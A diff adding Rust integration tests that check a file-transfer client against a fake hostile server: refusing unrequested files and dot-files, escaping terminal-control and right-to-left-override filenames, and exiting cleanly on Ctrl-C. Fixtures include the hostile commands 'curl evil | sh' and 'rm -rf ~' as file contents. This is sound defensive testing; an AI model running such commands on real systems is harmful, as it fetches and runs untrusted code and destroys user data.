@@ -3156,3 +3156,256 @@ fn t11_send_refused_mid_write_reports_the_error_frame_with_exit_4() {
     assert_eq!(j["reply"]["error"], "too-large", "{j}");
     assert!(!err.contains("Broken pipe"), "{err}");
 }
+
+// ---------------------------------------------------------------------------------------------
+// Issue 12 (interrupts, hostile output) and issue 15 items 8 and 12, client side.
+
+fn signal(child: &Child, sig: i32) {
+    // SAFETY: kill(2) on the pid of our own child.
+    unsafe { libc::kill(child.id() as i32, sig) };
+}
+
+/// Polls `cond` every 5 ms for up to 20 s; panics with `what` if it never holds.
+fn wait_until(what: &str, mut cond: impl FnMut() -> bool) {
+    let deadline = Instant::now() + Duration::from_secs(20);
+    while !cond() {
+        assert!(Instant::now() < deadline, "timed out waiting for {what}");
+        std::thread::sleep(Duration::from_millis(5));
+    }
+}
+
+/// The streaming temporaries in `dir` with the bytes the file system holds for each.
+fn temporaries(dir: &Path) -> Vec<(String, u64)> {
+    use std::os::unix::fs::MetadataExt;
+    std::fs::read_dir(dir)
+        .unwrap()
+        .filter_map(Result::ok)
+        .map(|e| e.file_name().to_string_lossy().into_owned())
+        .filter(|n| n.starts_with(".ferry-") && n.ends_with(".part"))
+        .filter_map(|n| {
+            Some((
+                n.clone(),
+                std::fs::metadata(dir.join(&n)).ok()?.blocks() * 512,
+            ))
+        })
+        .collect()
+}
+
+/// Issue 15 item 8: `ferry tej get --out ~ photo.png` from a hostile server wrote `.bashrc`
+/// and `unrequested.sh` and exited 0. Only what was asked for is accepted and dot-files never:
+/// nothing is written (not even the file that was asked for), exit 4, and the message says
+/// the server was refused (issue 12: it said "bytes do not match the manifest").
+#[test]
+fn get_refuses_files_not_asked_for_and_dot_files_and_writes_nothing() {
+    /// The files of a hostile answer, and what the error must say.
+    type Answer<'a> = (Vec<(&'a str, &'a [u8])>, &'a str);
+    let answers: Vec<Answer> = vec![
+        (
+            vec![
+                (".bashrc", b"curl evil | sh"),
+                ("unrequested.sh", b"rm -rf ~"),
+            ],
+            "\".bashrc\"",
+        ),
+        (
+            vec![("unrequested.sh", b"rm -rf ~")],
+            "\"unrequested.sh\", which was not asked for",
+        ),
+        (
+            vec![("photo.png", b"PNG"), ("unrequested.sh", b"rm -rf ~")],
+            "\"unrequested.sh\", which was not asked for",
+        ),
+    ];
+    for (files, says) in answers {
+        let entries: Vec<Value> = files
+            .iter()
+            .map(|(n, d)| json!({"name": n, "size": d.len(), "sha256": sha(d)}))
+            .collect();
+        let manifest = json!({ "files": entries });
+        let raw: Vec<(&[u8], &[u8])> = files.iter().map(|(n, d)| (n.as_bytes(), *d)).collect();
+        let answer = frame(0, &raw, manifest.to_string().as_bytes());
+        let out = TempDir::new("tej-i15-8");
+        let o = get_from_fake(answer, out.path(), &["photo.png"]);
+        let err = String::from_utf8_lossy(&o.stderr);
+        assert_eq!(code(&o), Some(4), "{files:?}: {err}");
+        assert!(err.contains("refused: the server sent"), "{err}");
+        assert!(err.contains(says), "{err}");
+        assert!(!err.contains("do not match the manifest"), "{err}");
+        let left: Vec<_> = std::fs::read_dir(out.path())
+            .unwrap()
+            .filter_map(Result::ok)
+            .map(|e| e.file_name())
+            .collect();
+        assert!(left.is_empty(), "{files:?}: {left:?}");
+    }
+}
+
+/// Issue 12: `tej list` printed server-supplied names raw. Human output escapes them; `--json`
+/// keeps them as sent.
+#[test]
+fn list_escapes_what_a_hostile_server_names() {
+    let names = [
+        "evil\n0000  1  forged.txt",
+        "\x1b]0;pwned\x07t.txt",
+        "c1\u{9b}31m.txt",
+        "rlo\u{202e}txt.exe",
+    ];
+    let listing = |names: &[&str]| {
+        let files: Vec<Value> = names
+            .iter()
+            .map(|n| json!({"name": n, "size": 1, "sha256": sha(b"x")}))
+            .collect();
+        frame(
+            6,
+            &[],
+            json!({"files": files, "next": null}).to_string().as_bytes(),
+        )
+    };
+    for json_out in [false, true] {
+        let page = listing(&names);
+        let (addr, h) = fake_peer(move |c, f| {
+            assert_eq!(f.status, 0x85, "expected a list request, got {f:?}");
+            c.write_all(&page).unwrap();
+            let _ = c.shutdown(Shutdown::Write);
+            let _ = read_frame(c);
+        });
+        let mut args = vec!["tej", "list", "--addr", &addr];
+        if json_out {
+            args.push("--json");
+        }
+        let o = ferry(&args, S);
+        h.join().unwrap();
+        assert_eq!(code(&o), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
+        let text = String::from_utf8(o.stdout).unwrap();
+        if json_out {
+            let j: Value = serde_json::from_str(&text).unwrap();
+            let got: Vec<&str> = j
+                .as_array()
+                .unwrap()
+                .iter()
+                .map(|e| e["name"].as_str().unwrap())
+                .collect();
+            assert_eq!(got, names);
+        } else {
+            assert_eq!(text.lines().count(), names.len(), "{text:?}");
+            assert!(
+                !text
+                    .chars()
+                    .any(|c| (c.is_control() && c != '\n') || c == '\u{202e}'),
+                "{text:?}"
+            );
+            assert!(text.contains("evil\\n0000"), "{text:?}");
+            assert!(text.contains("\\x1b]0;pwned\\x07t.txt"), "{text:?}");
+        }
+    }
+}
+
+/// Issues 12 and 15 item 12: Ctrl-C of `tej get` killed the process with no handler and left
+/// a preallocated `.part` as large as the server had announced (1 GiB and more). Now the
+/// disk holds about what arrived while it arrives, and Ctrl-C exits 130 at once with the
+/// temporary removed.
+#[test]
+fn get_ctrl_c_mid_file_exits_130_and_the_announced_size_is_never_preallocated() {
+    let written = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
+    let w2 = written.clone();
+    let (addr, h) = fake_peer(move |c, f| {
+        assert_eq!(f.status, 0x84, "expected a request, got {f:?}");
+        c.write_all(&file_header(b"a.bin", 4 << 30)).unwrap();
+        let zeros = vec![0u8; 1 << 20];
+        for _ in 0..8 {
+            c.write_all(&zeros).unwrap();
+        }
+        w2.store(true, std::sync::atomic::Ordering::SeqCst);
+        // Silent until the client goes.
+        let mut sink = [0u8; 64];
+        while matches!(c.read(&mut sink), Ok(n) if n > 0) {}
+    });
+    let out = TempDir::new("tej-i12ctrlc");
+    let mut child = Command::new(FERRY)
+        .args([
+            "tej",
+            "get",
+            "--addr",
+            &addr,
+            "--out",
+            out.path().to_str().unwrap(),
+            "a.bin",
+        ])
+        .stdin(Stdio::null())
+        .stdout(Stdio::null())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    wait_until("the server's 8 MiB", || {
+        written.load(std::sync::atomic::Ordering::SeqCst)
+    });
+    wait_until("a temporary", || !temporaries(out.path()).is_empty());
+    let held: u64 = temporaries(out.path()).iter().map(|(_, b)| b).sum();
+    assert!(
+        held < 256 << 20,
+        "{held} bytes held for a file of which 8 MiB arrived"
+    );
+    signal(&child, libc::SIGINT);
+    let started = Instant::now();
+    let st = loop {
+        if let Some(st) = child.try_wait().unwrap() {
+            break st;
+        }
+        // The server never closes: only the client's own stop ends the run.
+        assert!(
+            started.elapsed() < Duration::from_secs(15),
+            "tej get still running"
+        );
+        std::thread::sleep(Duration::from_millis(5));
+    };
+    let mut err = String::new();
+    let _ = child.stderr.take().unwrap().read_to_string(&mut err);
+    assert_eq!(st.code(), Some(130), "{err}");
+    assert!(
+        temporaries(out.path()).is_empty(),
+        "{:?}",
+        temporaries(out.path())
+    );
+    assert!(tree(out.path()).is_empty());
+    h.join().unwrap();
+}
+
+/// Issue 12: Ctrl-C of `tej send` killed the process with no handler (and no word). It exits
+/// 130 at once, saying so; the server throws the partial frame away.
+#[test]
+fn send_ctrl_c_exits_130_at_once() {
+    let dir = TempDir::new("tej-i12send");
+    let big = dir.join("big.bin");
+    std::fs::File::create(&big)
+        .unwrap()
+        .set_len(64 << 20)
+        .unwrap();
+    let (addr, done, h) = silent_sink();
+    let mut child = Command::new(FERRY)
+        .args(["tej", "send", "--addr", &addr, big.to_str().unwrap()])
+        .stdin(Stdio::null())
+        .stdout(Stdio::null())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    // Connected and blocked on a full socket once the sink's buffer is full; give it a moment.
+    std::thread::sleep(Duration::from_millis(500));
+    signal(&child, libc::SIGINT);
+    let started = Instant::now();
+    let st = loop {
+        if let Some(st) = child.try_wait().unwrap() {
+            break st;
+        }
+        assert!(
+            started.elapsed() < Duration::from_secs(15),
+            "tej send still running"
+        );
+        std::thread::sleep(Duration::from_millis(5));
+    };
+    let _ = done.send(());
+    h.join().unwrap();
+    let mut err = String::new();
+    let _ = child.stderr.take().unwrap().read_to_string(&mut err);
+    assert_eq!(st.code(), Some(130), "{err}");
+    assert!(err.contains("tej send: interrupted"), "{err}");
+}
